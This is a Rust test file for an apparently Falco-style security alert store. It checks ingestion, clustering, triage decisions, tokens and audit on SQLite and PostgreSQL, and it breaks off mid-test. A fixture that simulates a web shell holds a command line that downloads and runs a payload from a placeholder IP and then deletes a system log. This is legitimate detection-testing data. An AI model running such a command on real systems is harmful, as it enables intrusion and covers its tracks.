//! The store's behaviour through its public API, on both backends: a SQLite file in a
//! temporary directory and a PostgreSQL database of its own (see `common`).

mod common;

use common::{Kind, TestDb};

use quell_store::{
    AlertQuery, AuditQuery, ClusterQuery, Error, ExceptionProvenance, NewAlert, NewDecision,
    NewRuleSet, NewToken, Role, RuleFile, SensorReport, Store, Target, Verdict, SCHEMA_VERSION,
};
use serde_json::json;

fn alert(rule: &str, host: &str, image: Option<&str>, t_s: u64, cmd: &str) -> String {
    let mut of = serde_json::Map::new();
    of.insert("proc.cmdline".into(), json!(cmd));
    of.insert("evt.time".into(), json!(t_s * 1_000_000_000));
    if let Some(i) = image {
        of.insert("container.image.repository".into(), json!(i));
        of.insert("container.id".into(), json!(format!("c-{i}")));
        of.insert("k8s.ns.name".into(), json!("prod"));
    }
    json!({
        "hostname": host,
        "output": format!("12:00:00.000000000: Warning shell {cmd}"),
        "output_fields": of,
        "priority": "Warning",
        "rule": rule,
        "source": "syscall",
        "tags": ["shell"],
        "time": format!("2024-01-01T00:{:02}:{:02}.000000000Z", t_s / 60, t_s % 60),
    })
    .to_string()
}

/// The store under test. SQLite moves its recent alerts into the indexed table after every
/// three: each test then reads alerts from both tables, merged and not yet merged.
async fn open(db: &TestDb) -> Store {
    let mut options = quell_store::Options::default();
    options.merge_rows = 3;
    Store::open_with(&db.spec, options).await.unwrap()
}

on_both!(
    ingest_is_idempotent_and_queries_filter,
    2,
    ingest_is_idempotent_and_queries_filter
);
async fn ingest_is_idempotent_and_queries_filter(db: &TestDb) {
    let store = open(db).await;
    assert_eq!(store.schema_version().await.unwrap(), SCHEMA_VERSION);
    let batch = vec![
        NewAlert::new(alert("Shell", "h1", Some("nginx"), 1, "sh -c id")),
        NewAlert::new(alert("Shell", "h1", Some("nginx"), 2, "sh -c ls"))
            .with_context(json!({"lineage": ["nginx", "sh"]})),
        NewAlert::new(alert("Shell", "h2", None, 3, "bash")),
        NewAlert::new(alert("Write", "h1", Some("nginx"), 4, "dd")),
    ];
    let out = store.ingest("s1", batch.clone()).await.unwrap();
    assert_eq!((out.stored, out.duplicates), (4, 0));
    // A retried batch stores nothing twice; the ids are those stored before.
    let again = store.ingest("s1", batch.clone()).await.unwrap();
    assert_eq!((again.stored, again.duplicates), (0, 4));
    assert_eq!(again.ids, out.ids);
    // The same alert re-serialised in another key order is the same alert.
    let v: serde_json::Value = serde_json::from_str(&batch[0].raw).unwrap();
    let reordered = {
        let m = v.as_object().unwrap();
        let mut keys: Vec<_> = m.keys().cloned().collect();
        keys.reverse();
        let parts: Vec<String> = keys
            .iter()
            .map(|k| format!("{}:{}", json!(k), m[k]))
            .collect();
        format!("{{ {} }}", parts.join(" , "))
    };
    assert_ne!(reordered, batch[0].raw);
    let r = store
        .ingest("s1", vec![NewAlert::new(reordered.clone())])
        .await
        .unwrap();
    assert_eq!((r.stored, r.duplicates), (0, 1));
    // From another sensor it is another alert.
    let r = store
        .ingest("s2", vec![NewAlert::new(reordered.clone())])
        .await
        .unwrap();
    assert_eq!((r.stored, r.duplicates), (1, 0));
    let s2_id = r.ids[0];

    let all = store.alerts(AlertQuery::default()).await.unwrap();
    assert_eq!(all.alerts.len(), 5);
    assert!(all.next_cursor.is_none());
    // Newest first; raw byte for byte; context only on request.
    assert_eq!(all.alerts[0].raw, batch[3].raw);
    assert!(all.alerts.iter().all(|a| a.context.is_none()));
    let one = store.alert(out.ids[1]).await.unwrap().unwrap();
    assert_eq!(one.raw, batch[1].raw);
    assert_eq!(one.context, Some(json!({"lineage": ["nginx", "sh"]})));
    assert_eq!(one.container_image.as_deref(), Some("nginx"));
    assert_eq!(one.container_id.as_deref(), Some("c-nginx"));
    assert_eq!(one.k8s_namespace.as_deref(), Some("prod"));
    assert_eq!(one.time_ns, 2_000_000_000 + 1_704_067_200_000_000_000);
    assert_eq!(one.sensor, "s1");
    assert!(
        one.key.len() == 64
            && one
                .key
                .bytes()
                .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
    );
    assert_ne!(one.key, store.alert(out.ids[0]).await.unwrap().unwrap().key);
    assert_eq!(store.alert(s2_id).await.unwrap().unwrap().raw, reordered);
    assert!(store.alert(9999).await.unwrap().is_none());

    let q = |f: fn(&mut AlertQuery)| {
        let mut q = AlertQuery::default();
        f(&mut q);
        let store = store.clone();
        async move {
            let mut ids: Vec<i64> = store
                .alerts(q)
                .await
                .unwrap()
                .alerts
                .iter()
                .map(|a| a.id)
                .collect();
            ids.sort();
            ids
        }
    };
    let (a, b, c, d) = (out.ids[0], out.ids[1], out.ids[2], out.ids[3]);
    assert_eq!(q(|q| q.rule = Some("Write".into())).await, [d]);
    assert_eq!(q(|q| q.host = Some("h2".into())).await, [c]);
    assert_eq!(q(|q| q.priority = Some("warning".into())).await.len(), 5);
    assert_eq!(
        q(|q| q.priority = Some("Error".into())).await,
        Vec::<i64>::new()
    );
    assert_eq!(
        q(|q| q.priority = Some("bogus".into())).await,
        Vec::<i64>::new()
    );
    assert_eq!(q(|q| q.container = Some("nginx".into())).await.len(), 4);
    assert_eq!(q(|q| q.container = Some("c-nginx".into())).await.len(), 4);
    assert_eq!(q(|q| q.namespace = Some("prod".into())).await.len(), 4);
    assert_eq!(q(|q| q.sensor = Some("s2".into())).await, [s2_id]);
    assert_eq!(q(|q| q.text = Some("sh -c l".into())).await, [b]);
    // Text is literal: LIKE's wildcards mean nothing.
    assert_eq!(q(|q| q.text = Some("sh%".into())).await, Vec::<i64>::new());
    assert_eq!(
        q(|q| {
            q.since_ns = Some(1_704_067_202_000_000_000);
            q.until_ns = Some(1_704_067_204_000_000_000);
        })
        .await,
        [b, c]
    );
    let _ = a;

    // Clusters: rule + host + image + behaviour (`sh -c id` and `sh -c ls` are two).
    let page = store.clusters(ClusterQuery::default()).await.unwrap();
    let mut shape: Vec<(String, String, Option<String>, u64)> = page
        .clusters
        .iter()
        .map(|k| {
            (
                k.rule.clone(),
                k.hostname.clone(),
                k.container_image.clone(),
                k.count,
            )
        })
        .collect();
    shape.sort();
    assert_eq!(
        shape,
        [
            ("Shell".into(), "h1".into(), Some("nginx".into()), 1),
            ("Shell".into(), "h1".into(), Some("nginx".into()), 2),
            ("Shell".into(), "h2".into(), None, 1),
            ("Write".into(), "h1".into(), Some("nginx".into()), 1),
        ]
    );
    // `sh -c id` from s1 and its copy from s2.
    let k = page.clusters.iter().find(|k| k.count == 2).unwrap().clone();
    assert_eq!(k.first_seen_ns, 1_704_067_201_000_000_000);
    assert_eq!(k.last_seen_ns, 1_704_067_201_000_000_000);
    assert_eq!(store.cluster(k.id).await.unwrap().unwrap(), k);
    let mut cq = ClusterQuery::default();
    cq.rule = Some("Write".into());
    assert_eq!(store.clusters(cq).await.unwrap().clusters.len(), 1);
    let mut aq = AlertQuery::default();
    aq.cluster_id = Some(k.id);
    assert_eq!(store.alerts(aq).await.unwrap().alerts.len(), 2);
    // Trend: the alert at 1 s and the other sensor's copy, in 1-second buckets.
    let t0 = 1_704_067_200_000_000_000;
    assert_eq!(
        store
            .cluster_trend(k.id, t0, 1_000_000_000, 4)
            .await
            .unwrap(),
        [0, 2, 0, 0]
    );
    assert_eq!(
        store
            .cluster_trend(k.id, t0 + 500_000_000, 1_000_000_000, 2)
            .await
            .unwrap(),
        [2, 0]
    );
    assert_eq!(
        store.cluster_trend(424242, t0, 1, 3).await.unwrap(),
        [0, 0, 0]
    );
    assert!(matches!(
        store.cluster_trend(k.id, t0, 0, 3).await,
        Err(Error::Invalid(_))
    ));
    assert!(matches!(
        store.cluster_trend(k.id, u64::MAX - 5, 10, 3).await,
        Err(Error::Invalid(_))
    ));
    store.close().await.unwrap();
}

on_both!(
    decisions_rulesets_sensors_tokens_and_audit,
    2,
    decisions_rulesets_sensors_tokens_and_audit
);
async fn decisions_rulesets_sensors_tokens_and_audit(db: &TestDb) {
    let store = open(db).await;
    let out = store
        .ingest(
            "s1",
            vec![
                NewAlert::new(alert("Shell", "h1", Some("nginx"), 1, "sh")),
                NewAlert::new(alert("Shell", "h1", Some("nginx"), 2, "sh")),
                NewAlert::new(alert("Write", "h1", None, 3, "dd")),
            ],
        )
        .await
        .unwrap();
    let shell_cluster = store.alert(out.ids[0]).await.unwrap().unwrap().cluster_id;
    let d = store
        .decide(NewDecision::new(
            Target::Cluster(shell_cluster),
            Verdict::Benign,
            "alice",
            "nginx health check",
        ))
        .await
        .unwrap();
    assert_eq!(d.verdict, Verdict::Benign);
    assert_eq!(
        store
            .cluster(shell_cluster)
            .await
            .unwrap()
            .unwrap()
            .decision,
        Some(d.clone())
    );
    store
        .decide(NewDecision::new(
            Target::Alert(out.ids[1]),
            Verdict::Real,
            "bob",
            "this one was the attacker",
        ))
        .await
        .unwrap();
    store
        .decide(NewDecision::new(
            Target::Alert(out.ids[2]),
            Verdict::Investigating,
            "bob",
            "",
        ))
        .await
        .unwrap();
    assert_eq!(
        store
            .decide(NewDecision::new(
                Target::Alert(424242),
                Verdict::Real,
                "bob",
                ""
            ))
            .await,
        Err(Error::NotFound("alert 424242".into()))
    );
    assert_eq!(
        store
            .decisions(Some(Target::Alert(out.ids[1])))
            .await
            .unwrap()
            .len(),
        1
    );
    assert_eq!(store.decisions(None).await.unwrap().len(), 3);

    // Rule-set versions.
    assert!(store.latest_ruleset().await.unwrap().is_none());
    let mut r1 = NewRuleSet::new(
        "alice",
        "first",
        vec![RuleFile::new(
            "falco_rules.local.yaml",
            "- list: x\n  items: []\n",
        )],
    );
    let mut ex = ExceptionProvenance::new("Shell", "nginx_health", "quell tune");
    ex.verification = Some(json!({"attacks_still_alert": true}));
    ex.comment = "health checks".into();
    ex.expires_ns = Some(2_000_000_000_000_000_000);
    r1.exceptions.push(ex.clone());
    let v1 = store.save_ruleset(r1).await.unwrap();
    assert_eq!(v1.version, 1);
    let v2 = store
        .save_ruleset(NewRuleSet::new(
            "bob",
            "second",
            vec![RuleFile::new("a.yaml", "a"), RuleFile::new("b.yaml", "b")],
        ))
        .await
        .unwrap();
    assert_eq!(v2.version, 2);
    let got = store.ruleset(1).await.unwrap().unwrap();
    assert_eq!(got.exceptions, [ex]);
    assert_eq!(got.files[0].contents, "- list: x\n  items: []\n");
    assert_eq!(store.latest_ruleset().await.unwrap().unwrap().version, 2);
    let list = store.rulesets().await.unwrap();
    assert_eq!(
        list.iter()
            .map(|r| (r.version, r.files, r.exceptions))
            .collect::<Vec<_>>(),
        [(2, 2, 0), (1, 1, 1)]
    );
    let dup = NewRuleSet::new(
        "bob",
        "dup",
        vec![RuleFile::new("a.yaml", "a"), RuleFile::new("a.yaml", "b")],
    );
    assert!(matches!(
        store.save_ruleset(dup).await,
        Err(Error::Invalid(_))
    ));
    assert!(store.ruleset(3).await.unwrap().is_none());

    // Sensors.
    let mut rep = SensorReport::new("s1");
    rep.host = "h1".into();
    rep.kernel = "6.1.0".into();
    rep.quell_version = "0.1.0".into();
    rep.drops.insert("kernel".into(), 3);
    let s = store.report_sensor(rep.clone()).await.unwrap();
    rep.drops.insert("kernel".into(), 5);
    let s2 = store.report_sensor(rep).await.unwrap();
    assert_eq!(s.id, s2.id);
    assert_eq!(s2.drops["kernel"], 5);
    assert!(s2.last_seen_ns >= s.last_seen_ns && s2.first_seen_ns == s.first_seen_ns);
    assert_eq!(store.sensors().await.unwrap(), [s2]);

    // Tokens: only the hash is stored; revoked tokens stop working.
    let t = store
        .create_token(NewToken::new("ci", Role::Sensor, "alice"))
        .await
        .unwrap();
    assert!(t.token.starts_with("quell_") && t.token.len() == 70);
    assert!(!format!("{t:?}").contains(&t.token));
    assert_eq!(
        store.verify_token(&t.token).await.unwrap(),
        Some(t.info.clone())
    );
    assert_eq!(store.verify_token("quell_nope").await.unwrap(), None);
    assert!(store.revoke_token(t.info.id, "alice").await.unwrap());
    assert!(!store.revoke_token(t.info.id, "alice").await.unwrap());
    assert_eq!(store.verify_token(&t.token).await.unwrap(), None);
    assert!(store.tokens().await.unwrap()[0].revoked_ns.is_some());
    let needle = t.token.as_bytes();
    let stored: Vec<u8> = match db.kind {
        Kind::Sqlite => {
            let mut b = std::fs::read(db.path()).unwrap();
            b.extend(std::fs::read(db.path().with_extension("db-wal")).unwrap_or_default());
            b
        }
        Kind::Postgres => {
            // Every column of the tables a token touches, as stored.
            let c = db.pg_client().await;
            let mut b = Vec::new();
            for sql in [
                "SELECT name, convert_to(role, 'UTF8'), convert_to(hash, 'UTF8'), created_by FROM tokens",
                "SELECT actor, convert_to(action, 'UTF8'), target, convert_to(detail, 'UTF8') FROM audit",
            ] {
                for r in c.query(sql, &[]).await.unwrap() {
                    for i in 0..4 {
                        b.extend(r.get::<_, Vec<u8>>(i));
                    }
                }
            }
            assert!(b.len() > 64, "the token's hash is read back");
            b
        }
    };
    assert!(!stored.windows(needle.len()).any(|w| w == needle));

    // Audit: one row per change, newest first.
    let log = store.audit(AuditQuery::default()).await.unwrap();
    let actions: Vec<&str> = log.iter().map(|e| e.action.as_str()).collect();
    assert_eq!(
        actions,
        [
            "token.revoke",
            "token.create",
            "sensor.register",
            "ruleset.save",
            "ruleset.save",
            "decision.create",
            "decision.create",
            "decision.create",
        ]
    );
    assert_eq!(log[7].target, format!("cluster:{shell_cluster}"));
    assert_eq!(log[7].actor, "alice");
    let mut q = AuditQuery::default();
    q.before_id = Some(log[1].id);
    q.limit = Some(2);
    let page = store.audit(q).await.unwrap();
    assert_eq!(
        page.iter().map(|e| e.id).collect::<Vec<_>>(),
        [log[2].id, log[3].id]
    );
    store.close().await.unwrap();
}

/// Compile-time check: every method's future is `Send` (an axum handler needs it) and the
/// store is `Send + Sync + Clone`. Never called.
#[allow(dead_code)]
fn futures_are_send(s: &Store) {
    fn send<T: Send>(_: T) {}
    fn shared<T: Send + Sync + Clone + 'static>() {}
    shared::<Store>();
    send(Store::open("x"));
    send(s.close());
    send(s.schema_version());
    send(s.ingest("s", Vec::new()));
    send(s.alerts(AlertQuery::default()));
    send(s.alert(1));
    send(s.clusters(ClusterQuery::default()));
    send(s.cluster(1));
    send(s.cluster_trend(1, 0, 1, 1));
    send(s.decide(NewDecision::new(Target::Alert(1), Verdict::Real, "a", "b")));
    send(s.decisions(None));
    send(s.decisions_as_history());
    send(s.save_ruleset(NewRuleSet::new("a", "b", Vec::new())));
    send(s.rulesets());
    send(s.ruleset(1));
    send(s.latest_ruleset());
    send(s.report_sensor(SensorReport::new("s")));
    send(s.sensors());
    send(s.create_token(NewToken::new("n", Role::Admin, "a")));
    send(s.verify_token("t"));
    send(s.revoke_token(1, "a"));
    send(s.tokens());
    send(s.audit(AuditQuery::default()));
}

on_both!(
    rare_filters_read_a_bounded_scan_per_page_and_find_everything,
    2,
    rare_filters_read_a_bounded_scan_per_page_and_find_everything
);
/// A filter that matches few alerts reads at most the scan budget per page: partial pages
/// whose cursors continue the search find every match once, in order; filters the store
/// seeks by (one column) and unfiltered pages are never partial.
async fn rare_filters_read_a_bounded_scan_per_page_and_find_everything(db: &TestDb) {
    let mut options = quell_store::Options::default();
    options.scan_budget = 25;
    let store = Store::open_with(&db.spec, options).await.unwrap();
    let batch: Vec<NewAlert> = (0..200u64)
        .map(|i| {
            let cmd = if i % 60 == 7 { "needle" } else { "hay" };
            let host = if i % 50 == 3 { "rare" } else { "common" };
            NewAlert::new(alert(&format!("R{}", i % 3), host, None, i, cmd))
        })
        .collect();
    store.ingest("s", batch).await.unwrap();
    let all = |mut q: AlertQuery| {
        let store = store.clone();
        async move {
            let (mut found, mut pages, mut partial) = (Vec::new(), 0, 0);
            loop {
                let page = store.alerts(q.clone()).await.unwrap();
                pages += 1;
                partial += usize::from(page.partial);
                // Seconds after 2024-01-01T00:00:00Z: the alert's number.
                found.extend(
                    page.alerts
                        .iter()
                        .map(|a| a.time_ns / 1_000_000_000 - 1_704_067_200),
                );
                match page.next_cursor {
                    Some(c) => q.cursor = Some(c),
                    None => return (found, pages, partial),
                }
            }
        }
    };
    // Text in 4 alerts of 200: 25 rows read per page at most, so 8 pages, partial ones
    // among them; every match once, newest first.
    let mut q = AlertQuery::default();
    q.text = Some("needle".into());
    q.limit = Some(10);
    let (found, pages, partial) = all(q).await;
    assert_eq!(found, [187, 127, 67, 7]);
    assert!(
        pages >= 8 && partial >= 4,
        "{pages} pages, {partial} partial"
    );
    // A rare combination (rule R0 and host rare: one column sought, one checked).
    let mut q = AlertQuery::default();
    q.rule = Some("R0".into());
    q.host = Some("rare".into());
    let (found, _, _) = all(q).await;
    assert_eq!(found, [153, 3]);
    // A rare combination whose sought column is common (rule R1: 67 alerts, the 4 with the
    // text among them), pages of 10: the rule's index read 25 rows per page, so three pages, the first
    // two partial (the budget ran out), the last one ending the search.
    let mut q = AlertQuery::default();
    q.rule = Some("R1".into());
    q.text = Some("needle".into());
    q.limit = Some(10);
    let (found, pages, partial) = all(q).await;
    assert_eq!(found, [187, 127, 67, 7]);
    assert_eq!((pages, partial), (3, 2));
    // One column, sought by its index: full pages, never partial.
    let mut q = AlertQuery::default();
    q.host = Some("rare".into());
    q.limit = Some(2);
    let (found, _, partial) = all(q).await;
    assert_eq!((found, partial), (vec![153, 103, 53, 3], 0));
    let mut q = AlertQuery::default();
    q.limit = Some(50);
    let (found, pages, partial) = all(q).await;
    assert_eq!((found.len(), pages, partial), (200, 4, 0));
    store.close().await.unwrap();
}

/// SQLite's recent alerts move into the indexed table in batches: ids stay, a retry of moved
/// alerts is still a duplicate, pages and lookups see both tables in one order, and
/// retention deletes from both.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn recent_alerts_move_into_the_indexed_table_and_stay_one_set() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("q.db");
    let mut options = quell_store::Options::default();
    options.merge_rows = 10;
    let store = Store::open_with(path.to_str().unwrap(), options)
        .await
        .unwrap();
    let count = |table: &str| -> i64 {
        let c = rusqlite::Connection::open(&path).unwrap();
        c.query_row(&format!("SELECT count(*) FROM {table}"), [], |r| r.get(0))
            .unwrap()
    };
    let batch = |from: u64| -> Vec<NewAlert> {
        (from..from + 6)
            .map(|i| {
                let host = if i % 2 == 0 { "even" } else { "odd" };
                NewAlert::new(alert("R", host, None, i, &format!("cmd{i}")))
            })
            .collect()
    };
    let first = store.ingest("s", batch(0)).await.unwrap();
    let second = store.ingest("s", batch(6)).await.unwrap();
    assert_eq!((count("alerts"), count("alerts_recent")), (0, 12));
    // The next write moves the twelve, then stores its own in the recent table.
    let third = store.ingest("s", batch(12)).await.unwrap();
    assert_eq!((count("alerts"), count("alerts_recent")), (12, 6));
    let ids: Vec<i64> = [&first, &second, &third]
        .iter()
        .flat_map(|o| o.ids.clone())
        .collect();
    assert_eq!(ids, (1..=18).collect::<Vec<i64>>(), "ids in arrival order");
    // Retries of moved and of recent alerts are duplicates, with their ids.
    let again = store.ingest("s", batch(0)).await.unwrap();
    assert_eq!((again.stored, again.duplicates), (0, 6));
    assert_eq!(again.ids, first.ids);
    let again = store.ingest("s", batch(12)).await.unwrap();
    assert_eq!((again.stored, again.duplicates), (0, 6));
    assert_eq!(again.ids, third.ids);
    // Pages of 4 by cursor, host filter: newest first across both tables, each once.
    let mut q = AlertQuery::default();
    q.host = Some("even".into());
    q.limit = Some(4);
    let mut seen = Vec::new();
    loop {
        let page = store.alerts(q.clone()).await.unwrap();
        seen.extend(page.alerts.iter().map(|a| a.id));
        match page.next_cursor {
            Some(c) => q.cursor = Some(c),
            None => break,
        }
    }
    assert_eq!(seen, [17, 15, 13, 11, 9, 7, 5, 3, 1]);
    // Lookups by id on either side; the cluster counts every alert once.
    for id in [1, 12, 13, 18] {
        let a = store.alert(id).await.unwrap().expect("stored");
        assert_eq!(a.id, id);
    }
    let clusters = store.clusters(ClusterQuery::default()).await.unwrap();
    assert_eq!(clusters.clusters.iter().map(|c| c.count).sum::<u64>(), 18);
    // Retention of everything before 2024-01-02 (every alert is on 2024-01-01): both tables.
    let cutoff = (1_704_067_200 + 86_400) * 1_000_000_000;
    let gone = store.expire_before(cutoff).await.unwrap();
    assert_eq!(gone.alerts, 18);
    assert_eq!((count("alerts"), count("alerts_recent")), (0, 0));
}

/// A deletion of `/var/log/dpkg.log` in the `shop` container on `web-1`: `shell` is a web
/// shell's (`rm -f` under `sh -c` under httpd, no terminal), else an operator's (`rm` at a
/// runtime exec's terminal). Both at second `t_s` of 2024-01-01.
fn deletion(shell: bool, t_s: u64) -> NewAlert {
    let (cmd, pcmd, tty, above) = if shell {
        (
            "rm -f /var/log/dpkg.log",
            "sh -c curl -s -o /tmp/.update http://198.51.100.7/p && /tmp/.update; rm -f /var/log/dpkg.log",
            0,
            ("httpd", "/opt/httpd/bin/httpd"),
        )
    } else {
        (
            "rm /var/log/dpkg.log",
            "sh -i",
            34816,
            ("runc", "/usr/bin/runc"),
        )
    };
    let raw = json!({
        "hostname": "web-1",
        "output": format!("Log files were tampered (file=/var/log/dpkg.log command={cmd})"),
        "output_fields": {
            "container.id": "d70642b69783",
            "container.image.repository": "shop",
            "evt.type": "unlinkat",
            "fd.name": "/var/log/dpkg.log",
            "proc.cmdline": cmd,
            "proc.exepath": "/usr/bin/rm",
            "proc.name": "rm",
            "proc.pname": "sh",
            "user.name": "root",
        },
        "priority": "Warning",
        "rule": "Clear Log Activities",
        "source": "syscall",
        "time": format!("2024-01-01T{:02}:{:02}:{:02}.000000000Z", t_s / 3600, t_s / 60 % 60, t_s % 60),
    })
    .to_string();
    NewAlert::new(raw).with_context(json!({
        "process": {"proc.tty": tty, "proc.sid": if shell { 7660 } else { 9 }, "proc.pcmdline": pcmd},
        "lineage": [
            {"level": 0, "pid": 20, "name": "rm"},
            {"level": 1, "pid": 19, "name": "sh", "cmdline": pcmd},
            {"level": 2, "pid": 18, "name": above.0, "exepath": above.1},
        ],
        "session": {"sid": if shell { 7660 } else { 9 }, "recent_starts": []},
    }))
}

on_both!(
    behaviour_clusters_and_the_inbox,
    2,
    behaviour_clusters_and_the_inbox
);
/// The cluster key holds the behaviour signature: an operator's deletion and a web shell's
/// deletion of one file in one container are two clusters (each with its repeats). The
/// inbox orders clusters by their latest alert, carries the latest alert (with context),
/// the latest decision and hourly trend counts kept at ingest; every filter, pages by
/// cursor, and a partial page under a small scan budget.
async fn behaviour_clusters_and_the_inbox(db: &TestDb) {
    let mut options = quell_store::Options::default();
    options.merge_rows = 3;
    options.scan_budget = 2;
    let store = Store::open_with(&db.spec, options).await.unwrap();
    // Operator at 00:10 and 02:10 and 02:20; web shell at 01:00 and 01:30.
    let out = store
        .ingest(
            "s",
            vec![
                deletion(false, 600),
                deletion(true, 3600),
                deletion(true, 5400),
                deletion(false, 7800),
                deletion(false, 8400),
            ],
        )
        .await
        .unwrap();
    assert_eq!(out.stored, 5);
    let op = store.alert(out.ids[0]).await.unwrap().unwrap().cluster_id;
    let shell = store.alert(out.ids[1]).await.unwrap().unwrap().cluster_id;
    assert_ne!(op, shell, "two behaviours share a cluster");
    assert_eq!(
        store.alert(out.ids[4]).await.unwrap().unwrap().cluster_id,
        op
    );
    assert_eq!(
        store.alert(out.ids[2]).await.unwrap().unwrap().cluster_id,
        shell
    );
    let (kop, kshell) = (
        store.cluster(op).await.unwrap().unwrap(),
        store.cluster(shell).await.unwrap().unwrap(),
    );
    assert_eq!((kop.count, kshell.count), (3, 2));
    assert_eq!(
        (kop.rule.as_str(), kop.hostname.as_str()),
        (kshell.rule.as_str(), kshell.hostname.as_str())
    );
    assert_eq!(kop.container_image, kshell.container_image);
    assert_eq!(kop.signature.len(), 12);
    assert_ne!(kop.signature, kshell.signature);
    // Another host, another rule, priority Error, in a namespace, at 03:00.
    let other = json!({
        "hostname": "db-1", "output": "x", "priority": "Error", "rule": "Write below etc",
        "source": "syscall", "time": "2024-01-01T03:00:00Z",
        "output_fields": {"proc.cmdline": "vi /etc/passwd", "k8s.ns.name": "payments",
                          "fd.name": "/etc/passwd"},
    })
    .to_string();
    let o = store.ingest("s", vec![NewAlert::new(other)]).await.unwrap();
    let write = store.alert(o.ids[0]).await.unwrap().unwrap().cluster_id;

    let t0 = 1_704_067_200_000_000_000u64;
    let hour = 3_600_000_000_000u64;
    let inbox = |f: &dyn Fn(&mut quell_store::InboxQuery)| {
        let mut q = quell_store::InboxQuery::default();
        // The trend's window: the 24 hours up to the end of 03:00-04:00.
        q.trend_end_ns = Some(t0 + 3 * hour + 5);
        f(&mut q);
        let store = store.clone();
        async move { store.inbox(q).await.unwrap() }
    };
    let ids =
        |p: &quell_store::InboxPage| p.clusters.iter().map(|k| k.cluster.id).collect::<Vec<_>>();
    let page = inbox(&|_| {}).await;
    assert_eq!(ids(&page), [write, op, shell]);
    assert!(!page.partial && page.next_cursor.is_none());
    let k = &page.clusters[1];
    assert_eq!(k.latest_alert_id, out.ids[4]);
    let latest = k.latest.as_ref().unwrap();
    assert_eq!(latest.id, out.ids[4]);
    assert_eq!(latest.context.as_ref().unwrap()["session"]["sid"], 9);
    assert_eq!(k.priority, "Warning");
    assert_eq!(k.trend_start_ns, t0 + 4 * hour - 24 * hour);
    let mut want = vec![0u64; 24];
    want[20] = 1; // 00:10
    want[22] = 2; // 02:10, 02:20
    assert_eq!(k.trend, want);
    let mut want = vec![0u64; 24];
    want[21] = 2;
    assert_eq!(page.clusters[2].trend, want);
    assert_eq!(page.clusters[0].namespace.as_deref(), Some("payments"));
    assert_eq!(page.clusters[0].priority, "Error");

    // Filters.
    assert_eq!(
        ids(&inbox(&|q| q.priority = Some("error".into())).await),
        [write]
    );
    assert_eq!(
        ids(&inbox(&|q| q.priority = Some("warning".into())).await).len(),
        3
    );
    assert!(store
        .inbox({
            let mut q = quell_store::InboxQuery::default();
            q.priority = Some("loud".into());
            q
        })
        .await
        .is_err());
    assert_eq!(
        ids(&inbox(&|q| q.host = Some("web-1".into())).await),
        [op, shell]
    );
    assert_eq!(
        ids(&inbox(&|q| q.rule = Some("Write below etc".into())).await),
        [write]
    );
    assert_eq!(
        ids(&inbox(&|q| q.image = Some("shop".into())).await),
        [op, shell]
    );
    assert_eq!(
        ids(&inbox(&|q| q.namespace = Some("payments".into())).await),
        [write]
    );
    assert_eq!(
        ids(&inbox(&|q| q.text = Some("below".into())).await),
        [write]
    );
    assert_eq!(
        ids(&inbox(&|q| q.text = Some("sho".into())).await),
        [op, shell]
    );
    // Last seen at or after 02:00; first seen before 00:30.
    assert_eq!(
        ids(&inbox(&|q| q.since_ns = Some(t0 + 2 * hour)).await),
        [write, op]
    );
    assert_eq!(
        ids(&inbox(&|q| q.until_ns = Some(t0 + hour / 2)).await),
        [op]
    );
    store
        .decide(NewDecision::new(
            Target::Cluster(op),
            Verdict::Benign,
            "ana",
            "routine",
        ))
        .await
        .unwrap();
    assert_eq!(
        ids(&inbox(&|q| q.decision = Some("benign".into())).await),
        [op]
    );
    assert_eq!(
        ids(&inbox(&|q| q.decision = Some("none".into())).await),
        [write, shell]
    );
    let decided = inbox(&|q| q.decision = Some("benign".into())).await;
    assert_eq!(
        decided.clusters[0].cluster.decision.as_ref().unwrap().actor,
        "ana"
    );
    // Pages of one, by cursor; unfiltered pages are never partial.
    let mut cursor = None;
    let mut walked = Vec::new();
    loop {
        let page = inbox(&|q| {
            q.limit = Some(1);
            q.cursor = cursor.clone();
        })
        .await;
        assert!(!page.partial);
        walked.extend(ids(&page));
        match page.next_cursor {
            Some(c) => cursor = Some(c),
            None => break,
        }
    }
    assert_eq!(walked, [write, op, shell]);
    // The scan budget (2 clusters): a filter matching only the third is found on a
    // partial page's continuation.
    let p1 = inbox(&|q| q.text = Some("web-1".into())).await;
    assert_eq!(ids(&p1), [op, shell]);
    let p = inbox(&|q| q.decision = Some("real".into())).await;
    assert!(p.clusters.is_empty());
    let mut q = quell_store::InboxQuery::default();
    q.rule = Some("Clear Log Activities".into());
    q.limit = Some(1);
    let page = store.inbox(q.clone()).await.unwrap();
    // Two clusters read (write, op; the budget is at least a page and one): op matches,
    // the budget is spent: partial.
    assert_eq!((ids(&page), page.partial), (vec![op], true));
    q.cursor = page.next_cursor;
    let page = store.inbox(q).await.unwrap();
    assert_eq!((ids(&page), page.partial), (vec![shell], false));
    assert!(matches!(
        store
            .inbox({
                let mut q = quell_store::InboxQuery::default();
                q.cursor = Some("a1.2".into());
                q
            })
            .await,
        Err(Error::InvalidCursor)
    ));
    store.close().await.unwrap();
}

on_both!(
    rule_counts_sum_the_clusters,
    2,
    rule_counts_sum_the_clusters
);
/// Alerts per rule, most first, summed over the rule's clusters (hosts, images); a
/// duplicate is not counted, and alerts expired by retention no longer are.
async fn rule_counts_sum_the_clusters(db: &TestDb) {
    let store = open(db).await;
    assert!(store.rule_counts().await.unwrap().is_empty());
    // An alert of 2024-01-02 (the helper's are of 2024-01-01).
    let next_day = |raw: String| {
        let mut v: serde_json::Value = serde_json::from_str(&raw).unwrap();
        v["time"] = json!("2024-01-02T00:00:01.000000000Z");
        NewAlert::new(v.to_string())
    };
    let batch = vec![
        NewAlert::new(alert("Shell", "h1", Some("nginx"), 1, "sh -c id")),
        NewAlert::new(alert("Write", "h1", Some("nginx"), 2, "dd")),
        next_day(alert("Shell", "h2", None, 3, "bash")),
        next_day(alert("Shell", "h1", Some("nginx"), 4, "sh -c ls")),
        next_day(alert("Write", "h3", None, 5, "dd")),
        next_day(alert("Apt", "h3", None, 6, "apt")),
    ];
    store.ingest("s1", batch.clone()).await.unwrap();
    store.ingest("s1", batch[..2].to_vec()).await.unwrap();
    let want = |v: &[(&str, u64)]| -> Vec<(String, u64)> {
        v.iter().map(|(r, n)| (r.to_string(), *n)).collect()
    };
    assert_eq!(
        store.rule_counts().await.unwrap(),
        want(&[("Shell", 3), ("Write", 2), ("Apt", 1)])
    );
    // Retention drops 2024-01-01 (the first Shell and the first Write).
    store
        .expire_before(1_704_153_600_000_000_000)
